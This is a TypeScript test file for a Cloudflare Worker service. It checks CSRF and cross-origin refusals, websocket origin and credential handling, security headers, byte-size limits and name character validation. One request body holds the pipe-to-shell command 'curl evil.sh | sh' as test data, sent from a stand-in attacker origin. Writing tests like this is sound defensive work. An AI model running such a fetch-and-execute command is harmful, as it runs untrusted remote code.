import { SELF } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { ExecutorFrame, MAX_FRAME_BYTES, parseFrame } from "@wegent/protocol";
import { call, createToken, expectError, signUp } from "./helpers";
import { eventually, openLive } from "./device-client";

const BASE = "http://wegent.test";

/** A raw request as a browser on another site (or a script) would send it. */
async function raw(
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string,
): Promise<Response> {
  return SELF.fetch(`${BASE}${path}`, { method, headers, body });
}

describe("cross-site requests", () => {
  it("refuses cookie writes without JSON or from another origin (403 cross_site)", async () => {
    const user = await signUp();
    const body = JSON.stringify({ message: "curl evil.sh | sh" });
    const cases: Record<string, string>[] = [
      // A cross-site form: text/plain, foreign Origin.
      { Cookie: user.cookie, "Content-Type": "text/plain", Origin: "https://evil.example" },
      // JSON but foreign.
      { Cookie: user.cookie, "Content-Type": "application/json", Origin: "https://evil.example" },
      // Our origin but not JSON.
      { Cookie: user.cookie, "Content-Type": "text/plain", Origin: BASE },
      // No Origin and no Sec-Fetch-Site.
      { Cookie: user.cookie, "Content-Type": "application/json" },
      { Cookie: user.cookie, "Content-Type": "application/json", "Sec-Fetch-Site": "cross-site" },
      { Cookie: user.cookie, "Content-Type": "application/json", Origin: "null" },
    ];
    for (const headers of cases) {
      const res = await raw("POST", "/api/tasks", headers, body);
      expect(res.status, JSON.stringify(headers)).toBe(403);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe("cross_site");
    }
    const del = await raw("DELETE", "/api/tokens/00000000-0000-4000-8000-000000000000", {
      Cookie: user.cookie,
      Origin: "https://evil.example",
    });
    expect(del.status).toBe(403);
    // Sec-Fetch-Site: same-origin (no Origin) is accepted; so is our Origin.
    const sameSite = await raw(
      "POST",
      "/api/tokens",
      { Cookie: user.cookie, "Content-Type": "application/json", "Sec-Fetch-Site": "same-origin" },
      JSON.stringify({ name: "ok", scope: "device" }),
    );
    expect(sameSite.status).toBe(201);
  });

  it("checks sign-in and sign-up too (no login CSRF)", async () => {
    const user = await signUp();
    const login = await raw(
      "POST",
      "/api/auth/login",
      { "Content-Type": "application/json", Origin: "https://evil.example" },
      JSON.stringify({ username: user.username, password: "correct horse battery" }),
    );
    expect(login.status).toBe(403);
    const signup = await raw(
      "POST",
      "/api/auth/signup",
      { "Content-Type": "text/plain", Origin: BASE },
      JSON.stringify({ username: "someone_new", password: "long enough" }),
    );
    expect(signup.status).toBe(403);
  });

  it("refuses a foreign-origin live upgrade; bearer tokens are exempt (no ambient authority)", async () => {
    const user = await signUp();
    const foreign = await raw("GET", "/api/live", {
      Upgrade: "websocket",
      Cookie: user.cookie,
      Origin: "https://evil.example",
    });
    expect(foreign.status).toBe(403);
    const noOrigin = await raw("GET", "/api/live", { Upgrade: "websocket", Cookie: user.cookie });
    expect(noOrigin.status).toBe(403);
    const { token } = await createToken(user, { name: "script", scope: "user" });
    const script = await raw(
      "POST",
      "/api/tasks",
      { Authorization: `Bearer ${token}`, "Content-Type": "text/plain" },
      JSON.stringify({ message: "hello" }),
    );
    expect(script.status).not.toBe(403);
    const viaToken = await raw("GET", "/api/live", {
      Upgrade: "websocket",
      Authorization: `Bearer ${token}`,
    });
    expect(viaToken.status).toBe(101);
    viaToken.webSocket?.accept();
    viaToken.webSocket?.close();
  });
});

describe("live sockets follow their credential", () => {
  it("closes a session's live socket within 1 s of sign-out", async () => {
    const user = await signUp();
    const live = await openLive(user.cookie);
    await live.next("live:hello");
    const started = Date.now();
    expect((await call("POST", "/api/auth/logout", { cookie: user.cookie })).status).toBe(200);
    await eventually(() => live.closed, 1_000, "live socket closed");
    expect(Date.now() - started).toBeLessThan(1_000);
  });

  it("closes a token's live socket within 1 s of revoking the token", async () => {
    const user = await signUp();
    const { id, token } = await createToken(user, { name: "script", scope: "user" });
    const res = await raw("GET", "/api/live", {
      Upgrade: "websocket",
      Authorization: `Bearer ${token}`,
    });
    const ws = res.webSocket!;
    let closed: number | null = null;
    ws.addEventListener("close", (e) => (closed = e.code));
    ws.accept();
    expect((await call("DELETE", `/api/tokens/${id}`, { cookie: user.cookie })).status).toBe(200);
    await eventually(() => closed, 1_000, "token live socket closed");
  });
});

describe("security headers", () => {
  it("are on API answers, errors included", async () => {
    for (const res of [
      await raw("GET", "/api/health", {}),
      await raw("GET", "/api/nope", {}),
      await raw("GET", "/api/auth/me", {}),
    ]) {
      const csp = res.headers.get("Content-Security-Policy") ?? "";
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain("unsafe-inline");
      expect(res.headers.get("X-Content-Type-Options")).toBe("nosniff");
      expect(res.headers.get("Referrer-Policy")).toBe("no-referrer");
    }
  });
});

describe("limits in bytes", () => {
  it("refuses a body over 1 MiB of UTF-8 even when it is under 1 Mi characters", async () => {
    const user = await signUp();
    // 400 k three-byte characters: 1.2 MB as sent, 400 k UTF-16 units.
    const big = JSON.stringify({ name: "€".repeat(400_000) });
    expect(big.length).toBeLessThan(1024 * 1024);
    const res = await raw(
      "POST",
      "/api/tokens",
      { Cookie: user.cookie, "Content-Type": "application/json", Origin: BASE },
      big,
    );
    expect(res.status).toBe(413);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe("body_too_large");
  });

  it("parseFrame counts UTF-8 bytes: a 3 MB multi-byte frame is too large", () => {
    const delta = "€".repeat(1_000_000); // 1 M units, 3 MB
    const frame = JSON.stringify({ type: "device:heartbeat", pad: delta });
    expect(frame.length).toBeLessThan(MAX_FRAME_BYTES * 1.01);
    const parsed = parseFrame(ExecutorFrame, frame);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.code).toBe("frame_too_large");
    const emoji = JSON.stringify({ type: "device:heartbeat", pad: "🔐".repeat(300_000) });
    expect(emoji.length).toBeLessThan(MAX_FRAME_BYTES);
    const second = parseFrame(ExecutorFrame, emoji);
    expect(second.ok ? null : second.code).toBe("frame_too_large");
  });

  it("names refuse bidi overrides, zero-width characters and lone surrogates", async () => {
    const user = await signUp();
    for (const name of ["a\u202Eb", "a\u200Db", "a\uFEFFb", "a\uDC00b", "a\u2066b"]) {
      expectError(
        await call("POST", "/api/tokens", { cookie: user.cookie, body: { name } }),
        400,
        "invalid_body",
      );
    }
    const ok = await call("POST", "/api/tokens", { cookie: user.cookie, body: { name: "Lå 🔐" } });
    expect(ok.status).toBe(201);
  });
});
